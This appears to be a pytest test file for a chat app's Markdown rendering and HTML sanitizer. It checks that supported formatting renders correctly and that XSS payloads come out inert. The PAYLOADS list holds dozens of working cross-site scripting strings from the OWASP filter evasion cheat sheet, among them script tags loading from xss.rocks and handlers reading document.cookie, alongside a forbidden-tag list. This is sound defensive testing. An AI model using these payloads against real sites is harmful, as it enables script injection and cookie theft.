# ruff: noqa: E501 (the payloads are kept as published)
"""Markdown rendering: what users see formatted, and that nothing from OWASP's XSS filter
evasion cheat sheet survives as markup a browser would run."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations.markup import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    render,
    render_markdown,
    sanitize,
)
from messaging.services import message_send
from tests.factories import make_group, make_users

# Payloads of the OWASP XSS Filter Evasion Cheat Sheet (and the usual Markdown-specific ones):
# script tags in every disguise, event handlers, javascript:/vbscript:/data: URLs with
# encodings, whitespace and entity tricks, tags that load or run things.
PAYLOADS = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<svg/onload=alert("XSS")>',
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Markdown's own ways in.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[click](https://example.com "title\\" onmouseover=\\"alert(1))',
    '[click](https://example.com" onmouseover="alert(1))',
    "![img](javascript:alert(1))",
    '![img](https://example.com/x.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    "<vbscript:alert(1)>",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    '```"><script>alert(1)</script>\n<script>alert(2)</script>\n```',
    '```js" onmouseover="alert(1)\ncode\n```',
    "`<script>alert(1)</script>`",
    "> <img src=x onerror=alert(1)>",
    "- <iframe src=javascript:alert(1)>",
    "**<svg onload=alert(1)>**",
    "@<script>alert(1)</script>",
]

FORBIDDEN_TAGS = {"script", "style", "iframe", "img", "svg", "object", "embed", "meta", "link"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.tags.append((tag, attrs))


def _elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Collector()
    parser.feed(html)
    parser.close()
    return parser.tags


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payloads_come_out_inert(payload):
    html = render(payload, members={"bob": 2}, all_allowed=True).html
    for tag, attrs in _elements(html):
        assert tag in ALLOWED_TAGS and tag not in FORBIDDEN_TAGS, html
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, html
            assert not name.startswith("on"), html
            if name == "href":
                assert (value or "").lower().startswith(("http:", "https:", "mailto:")), html
            assert "javascript:" not in (value or "").lower(), html
            assert "vbscript:" not in (value or "").lower(), html
    # What is stored is already clean: sanitizing it again changes nothing.
    assert sanitize(html) == html


def test_the_supported_markdown_renders():
    body = (
        "*em* **strong** ~~gone~~ `code` [site](https://example.com) <https://x.example>\n\n"
        "```python\nprint('<b>')\n```\n\n> quoted\n\n- one\n- two\n\n1. first\n\n"
        "# not a heading\n\n<b>raw</b> see https://example.com/a?b=1&c=2."
    )
    html = render(body, members={}, all_allowed=False).html
    for fragment in (
        "<em>em</em>",
        "<strong>strong</strong>",
        "<s>gone</s>",
        "<code>code</code>",
        '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">site',
        '<a href="https://x.example" target="_blank" rel="noopener noreferrer nofollow">',
        "<pre><code class=\"language-python\">print('&lt;b&gt;')",
        "<blockquote>",
        "<ul>",
        "<ol>",
        "# not a heading",
        "&lt;b&gt;raw&lt;/b&gt;",
        '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" '
        'rel="noopener noreferrer nofollow">https://example.com/a?b=1&amp;c=2</a>.',
    ):
        assert fragment in html, (fragment, html)


@pytest.mark.django_db
def test_history_and_live_carry_the_stored_html(client_for):
    alice, bob = make_users("alice", "bob")
    group = make_group(alice, bob)
    message_send(sender=alice, conversation_id=group.pk, client_msg_id="m1", body="**hi** <i>x</i>")
    [message] = [
        m
        for m in client_for(bob).get(f"/api/conversations/{group.pk}/messages/").json()["results"]
        if m["sender"]
    ]
    assert message["body"] == "**hi** <i>x</i>"
    assert message["html"] == "<p><strong>hi</strong> &lt;i&gt;x&lt;/i&gt;</p>"


@given(st.text(alphabet=st.sampled_from(list("aZé7 ,.?'()_1ß漢")), max_size=30))
@settings(max_examples=300, deadline=None)
def test_the_plain_text_shortcut_renders_as_the_parser_does(body):
    if not body.strip():
        return
    assert render(body, members={}, all_allowed=False) == render_markdown(
        body, members={}, all_allowed=False
    )
